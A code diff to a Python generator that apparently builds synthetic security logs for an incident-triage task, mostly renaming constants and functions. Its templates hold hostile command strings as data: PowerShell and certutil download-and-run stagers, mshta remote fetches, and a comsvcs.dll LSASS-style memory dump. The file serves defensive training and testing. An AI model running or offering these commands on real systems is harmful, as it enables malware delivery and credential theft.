@@ -21,9 +21,18 @@ from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, field
 from datetime import datetime, timedelta, timezone
 
-from .world.inventory import EMAIL_DOMAIN, EXTERNAL_PREFIXES, INVENTORY, KNOWN_GOOD_SERVICES, PUBLIC_DNS_RESOLVER, Host
 from .schema import CATEGORIES, TRIAGE_ACTIONS, IncidentParams, TriageAction
 from .tasks.registry import TaskSpec, get_task
+from .world.inventory import (
+    DOMAIN_SID,
+    EMAIL_DOMAIN,
+    EXTERNAL_PREFIXES,
+    GROUPS,
+    INVENTORY,
+    KNOWN_GOOD_SERVICES,
+    PUBLIC_DNS_RESOLVER,
+    Host,
+)
 
 EPOCH = datetime(2026, 3, 2, tzinfo=timezone.utc)  # a Monday; incidents fall in the 26 weeks after it
 
@@ -33,15 +42,15 @@ _WORDS = ("cdn", "static", "assets", "sync", "cloud", "files", "media", "portal"
           "data", "edge", "app", "mail", "store", "content", "api", "img", "update")
 _WORDS2 = ("hub", "link", "box", "zone", "net", "point", "works", "stack", "labs", "flow", "base", "sphere")
 _TLDS = ("com", "net", "io", "org", "co", "info", "xyz", "top", "site", "biz")
-_FILE_STEMS = ("invoice", "report", "scan", "statement", "payroll", "notes", "agenda", "contract", "q3_plan", "receipt")
-_SUBJECTS = ("Invoice {n} attached", "Updated payroll schedule", "Shared document: {stem}", "Re: meeting agenda",
+FILE_STEMS = ("invoice", "report", "scan", "statement", "payroll", "notes", "agenda", "contract", "q3_plan", "receipt")
+MAIL_SUBJECTS = ("Invoice {n} attached", "Updated payroll schedule", "Shared document: {stem}", "Re: meeting agenda",
              "Action required: mailbox storage", "Your delivery notice {n}", "Quarterly report draft",
              "Contract for review", "Password expiry notice", "Team offsite details")
 _SENDER_NAMES = ("billing", "noreply", "hr-team", "accounts", "support", "j.smith", "notifications", "admin", "docs")
 _PROC_STEMS = ("svcupd", "winhelper", "msupdate", "taskhostw", "runtimebroker", "syscache", "updater", "helper")
 # User agents, upload paths and methods are drawn from pools every template shares, whatever its label: the
 # verifier never reads them, so they must carry nothing a defender could learn the label from.
-_USER_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+USER_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
                 "Microsoft-CryptoAPI/10.0", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
                 "Microsoft BITS/7.8", "CloudBackupAgent/7.4", "rclone/v1.66.0", "curl/8.5.0", "python-requests/2.31.0",
@@ -124,7 +133,7 @@ class Scene:
         return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
 
     def agent(self) -> str:
-        return self.pick(_USER_AGENTS)
+        return self.pick(USER_AGENTS)
 
     def upload_path(self) -> str:
         return self.pick(_UPLOAD_PATHS).format(h=self.sha256()[:12], n=self.rng.randint(1000, 999_999))
@@ -223,7 +232,7 @@ def _temp_exe(scene: Scene, user: str) -> str:
 
 def _stager(scene: Scene) -> str:
     """A download-and-run PowerShell script, as encoded stagers carry."""
-    d, stem = scene.domain(), scene.pick(_FILE_STEMS)
+    d, stem = scene.domain(), scene.pick(FILE_STEMS)
     return scene.pick((
         f"IEX (New-Object Net.WebClient).DownloadString('http://{d}/{stem}.ps1')",
         f"$w=New-Object Net.WebClient;$w.DownloadFile('https://{d}/{stem}.exe',\"$env:TEMP\\{stem}.exe\");Start-Process \"$env:TEMP\\{stem}.exe\"",
@@ -232,7 +241,7 @@ def _stager(scene: Scene) -> str:
     ))
 
 
-_ADMIN_SCRIPTS = ("Get-Service -Name Spooler,W32Time | Where-Object Status -eq Stopped | Start-Service",
+ADMIN_SCRIPTS = ("Get-Service -Name Spooler,W32Time | Where-Object Status -eq Stopped | Start-Service",
                   "Get-WinEvent -LogName System -MaxEvents 50 | Select-Object TimeCreated,Id,Message",
                   "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
                   "Test-NetConnection {srv} -Port 443",
@@ -240,7 +249,7 @@ _ADMIN_SCRIPTS = ("Get-Service -Name Spooler,W32Time | Where-Object Status -eq S
 
 
 def _lolbin_command(scene: Scene, user: str) -> tuple[str, str]:
-    d, stem = scene.domain(), scene.pick(_FILE_STEMS)
+    d, stem = scene.domain(), scene.pick(FILE_STEMS)
     return scene.pick((
         ("certutil.exe", f"certutil.exe -urlcache -split -f http://{d}/{stem}.bin {_temp_exe(scene, user)}"),
         ("powershell.exe", f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{d}/{stem}.ps1')\""),
@@ -260,7 +269,7 @@ def _office_macro_shell(scene: Scene) -> list[dict]:
     name, cmd = scene.pick((
         ("powershell.exe", f"powershell.exe -nop -w hidden -enc {scene.encoded(_stager(scene))}"),
         ("cmd.exe", f"cmd.exe /c start /b {_temp_exe(scene, h.owner)}"),
-        ("wscript.exe", f"wscript.exe C:\\Users\\{h.owner}\\AppData\\Roaming\\{scene.pick(_FILE_STEMS)}.js"),
+        ("wscript.exe", f"wscript.exe C:\\Users\\{h.owner}\\AppData\\Roaming\\{scene.pick(FILE_STEMS)}.js"),
         ("mshta.exe", f"mshta.exe http://{scene.domain()}/p.hta"),
     ))
     return [scene.proc(0, h, h.owner, name, cmd, parent=parent)]
@@ -299,7 +308,7 @@ def _dropper_chain(scene: Scene) -> list[dict]:
     name = exe.rsplit("\\", 1)[1]
     return [
         scene.dns(0, h, d),
-        scene.http(2, h, h.owner, ip, d, f"/{scene.pick(_FILE_STEMS)}.bin", recv=scene.rng.randint(150_000, 3_000_000)),
+        scene.http(2, h, h.owner, ip, d, f"/{scene.pick(FILE_STEMS)}.bin", recv=scene.rng.randint(150_000, 3_000_000)),
         scene.proc(9, h, h.owner, "certutil.exe", f"certutil.exe -decode {exe}.b64 {exe}", parent="cmd.exe"),
         scene.reg(20, h, h.owner, scene.pick(_PROC_STEMS), exe, name),
     ]
@@ -369,12 +378,12 @@ def _dns_tunnel(scene: Scene) -> list[dict]:
 
 def _phish(scene: Scene, *, attachment: bool) -> dict:
     user = scene.workstation().owner
-    subject = scene.pick(_SUBJECTS).format(n=scene.rng.randint(1000, 99999), stem=scene.pick(_FILE_STEMS))
+    subject = scene.pick(MAIL_SUBJECTS).format(n=scene.rng.randint(1000, 99999), stem=scene.pick(FILE_STEMS))
     sender = f"{scene.pick(_SENDER_NAMES)}@{scene.domain()}"
     spf, dmarc = scene.pick((("fail", "fail"), ("softfail", "fail"), ("fail", "none"), ("softfail", "none"), ("none", "fail")))
     if attachment:
         return scene.email(0, user, sender, subject,
-                           attachment=f"{scene.pick(_FILE_STEMS)}{scene.pick(('.docm', '.xlsm', '.iso', '.one', '.zip', '.lnk'))}",
+                           attachment=f"{scene.pick(FILE_STEMS)}{scene.pick(('.docm', '.xlsm', '.iso', '.one', '.zip', '.lnk'))}",
                            link=None, spf=spf, dmarc=dmarc)
     return scene.email(0, user, sender, subject, attachment=None,
                        link=f"login-{scene.pick(('m365', 'office', 'sso', 'mail'))}.{scene.domain()}", spf=spf, dmarc=dmarc)
@@ -383,7 +392,7 @@ def _phish(scene: Scene, *, attachment: bool) -> dict:
 def _phish_opened(scene: Scene) -> list[dict]:
     mail = _phish(scene, attachment=True)
     host = next(h for h in INVENTORY.hosts if h.owner == mail["user"])
-    mail["email.attachments.file.name"] = f"{scene.pick(_FILE_STEMS)}.docm"
+    mail["email.attachments.file.name"] = f"{scene.pick(FILE_STEMS)}.docm"
     return [mail, scene.proc(scene.rng.uniform(60, 1800), host, host.owner, "powershell.exe",
                              f"powershell.exe -nop -w hidden -enc {scene.encoded(_stager(scene))}", parent="WINWORD.EXE")]
 
@@ -608,7 +617,7 @@ def _split_roll_ups(scene: Scene) -> list[dict]:
     events, total, t = [], 0, 0.0
     while total < 110:
         n = scene.rng.randint(20, 99)
-        events.append(scene.files(t, h, user, "rename", f"{base}\\{scene.pick(_FILE_STEMS)}\\*", ext, n, proc))
+        events.append(scene.files(t, h, user, "rename", f"{base}\\{scene.pick(FILE_STEMS)}\\*", ext, n, proc))
         total, t = total + n, t + scene.rng.uniform(5, 60)
     return events
 
@@ -652,8 +661,6 @@ def _short_label_tunnel(scene: Scene) -> list[dict]:
 
 def _tier0_group_variant(scene: Scene) -> list[dict]:
     """A self-add to a tier-0 group the way Windows logs it: domain-prefixed, by SID, or a less famous tier-0 group."""
-    from .world.inventory import DOMAIN_SID, GROUPS
-
     ws = scene.workstation()
     group = scene.pick([g for g in GROUPS if g.tier0 and g.name not in ("Domain Controllers", "Read-only Domain Controllers")])
     ev = scene.group_add(0, ws.owner, ws.owner, group.name)
@@ -680,7 +687,7 @@ def _policies_run_key(scene: Scene) -> list[dict]:
 def _comsvcs_ordinal_dump(scene: Scene) -> list[dict]:
     h = scene.workstation()
     cmd = (f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, #24 {scene.rng.randint(500, 900)} "
-           f"C:\\Users\\{h.owner}\\AppData\\Local\\Temp\\{scene.pick(_FILE_STEMS)}.tmp full")
+           f"C:\\Users\\{h.owner}\\AppData\\Local\\Temp\\{scene.pick(FILE_STEMS)}.tmp full")
     return [scene.proc(0, h, h.owner, "rundll32.exe", cmd, parent="cmd.exe")]
 
 
@@ -724,7 +731,7 @@ def _admin_tooling(scene: Scene) -> list[dict]:
         name, cmd = _remote_exec_command(scene, scene.host("server", "critical"))
         return [scene.proc(0, jump, admin, name, cmd, parent="cmd.exe")]
     if kind == 1:
-        script = scene.pick(_ADMIN_SCRIPTS).format(srv=scene.host("server", "critical").name)
+        script = scene.pick(ADMIN_SCRIPTS).format(srv=scene.host("server", "critical").name)
         return [scene.proc(0, jump, admin, "powershell.exe", f"powershell.exe -NoProfile -EncodedCommand {scene.encoded(script)}",
                            parent="mmc.exe")]
     return _discovery(scene, jump, admin)
@@ -740,14 +747,14 @@ def _admin_session(scene: Scene) -> list[dict]:
             scene.proc(200, jump, admin, name, cmd, parent="cmd.exe")]
 
 
-def _update_download(scene: Scene, host: Host | None = None) -> list[dict]:
+def update_download_activity(scene: Scene, host: Host | None = None) -> list[dict]:
     h = host or scene.host("workstation", "server")
     svc = scene.pick([s for s in KNOWN_GOOD_SERVICES if s.purpose == "software_update"])
     return [scene.http(0, h, "SYSTEM", svc.ip, svc.domain, f"/c/msdownload/update/{scene.sha256()[:16]}.cab",
                        recv=scene.rng.randint(5_000_000, 900_000_000))]
 
 
-def _installer(scene: Scene, host: Host | None = None) -> list[dict]:
+def installer_activity(scene: Scene, host: Host | None = None) -> list[dict]:
     h = host or scene.host("workstation", "server")
     pkg = scene.pick(("AcroRdrDCx64", "GoogleChromeEnterprise", "Teams_windows_x64", "7z2301-x64", "ZoomInstallerFull"))
     if scene.rng.random() < 0.5:
@@ -760,8 +767,8 @@ def _installer(scene: Scene, host: Host | None = None) -> list[dict]:
 
 def _update_then_install(scene: Scene) -> list[dict]:
     h = scene.host("workstation", "server")
-    download = _update_download(scene, h)
-    install = _installer(scene, h)
+    download = update_download_activity(scene, h)
+    install = installer_activity(scene, h)
     install[0]["timestamp"] = scene.ts(scene.rng.uniform(60, 900))
     return download + install
 
@@ -877,8 +884,8 @@ TEMPLATES: tuple[Template, ...] = (
     Template("admin_remote_tooling", "admin_remote_tooling", "dismiss", _admin_tooling, single_event=True),
     Template("admin_session", "admin_remote_tooling", "dismiss", _admin_session),
     Template("admin_group_maintenance", "admin_remote_tooling", "dismiss", _admin_group_maintenance, single_event=True),
-    Template("update_download", "software_update", "dismiss", _update_download, single_event=True),
-    Template("managed_installer", "software_update", "dismiss", _installer, single_event=True),
+    Template("update_download", "software_update", "dismiss", update_download_activity, single_event=True),
+    Template("managed_installer", "software_update", "dismiss", installer_activity, single_event=True),
     Template("update_then_install", "software_update", "dismiss", _update_then_install),
     Template("backup_upload", "scheduled_backup", "dismiss", _backup_upload, single_event=True),
     Template("backup_window", "scheduled_backup", "dismiss", _backup_window),
@@ -895,21 +902,21 @@ def _open_document(scene: Scene) -> list[dict]:
     h = scene.workstation()
     word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
     return [scene.proc(0, h, h.owner, "WINWORD.EXE",
-                       f"\"{word}\" /n \"C:\\Users\\{h.owner}\\Documents\\{scene.pick(_FILE_STEMS)}.docx\"", executable=word)]
+                       f"\"{word}\" /n \"C:\\Users\\{h.owner}\\Documents\\{scene.pick(FILE_STEMS)}.docx\"", executable=word)]
 
 
 # Benign single activities mixed into windows from stage 3 on. Several trip the same
 # detections as attacks do (admin PsExec, a failed logon, a large download).
 DECOYS: tuple[Builder, ...] = (
     lambda s: _typo(s, 1, s.rng.random() < 0.5),
-    _update_download,
-    _installer,
+    update_download_activity,
+    installer_activity,
     _admin_tooling,
     lambda s: _heartbeat(s)[:3],
     lambda s: [s.access(0, s.workstation(), "SYSTEM", "MsMpEng.exe",
                         "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "0x1410")],
-    lambda s: [s.email(0, s.workstation().owner, f"newsletter@{s.domain()}", s.pick(_SUBJECTS).format(n=s.rng.randint(1000, 9999), stem="report"),
-                       attachment=f"{s.pick(_FILE_STEMS)}.pdf", link=None, spf="pass", dmarc="pass")],
+    lambda s: [s.email(0, s.workstation().owner, f"newsletter@{s.domain()}", s.pick(MAIL_SUBJECTS).format(n=s.rng.randint(1000, 9999), stem="report"),
+                       attachment=f"{s.pick(FILE_STEMS)}.pdf", link=None, spf="pass", dmarc="pass")],
     lambda s: [s.http(0, (h := s.workstation()), h.owner, s.external_ip(), s.domain(), "/", recv=s.rng.randint(2_000, 400_000))],
     _open_document,
     # Text that names a technique without running it: a note, a log search, a comment.
